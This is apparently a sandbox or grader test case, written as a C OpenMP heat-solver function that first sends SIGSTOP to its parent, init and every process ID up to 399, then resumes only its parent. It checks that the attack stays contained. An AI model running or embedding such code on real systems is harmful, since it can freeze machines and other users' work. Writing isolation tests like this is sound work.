// EXPECT file=omp.c check=omp-equal verdict=HANG says="stopped"
// Attack: stops and wakes whoever started it, and everybody whose number it can guess; nobody
// outside may be among them.

#include "heat.h"

#include <signal.h>
#include <unistd.h>

static void stop_all(void) {
    const pid_t me = getpid(), above = getppid();
    kill(above, SIGSTOP);
    kill(1, SIGSTOP);
    for (pid_t pid = 2; pid < 400; pid++)
        if (pid != me)
            kill(pid, SIGSTOP);
    kill(above, SIGCONT);
}

void heat_omp(struct heat *h) {
    stop_all();
    for (int step = 0; step < h->steps; step++) {
#pragma omp parallel for schedule(static)
        for (int row = 1; row <= h->rows; row++)
            heat_row(h, row, 1, h->cols + 1);
        heat_swap(h);
    }
}
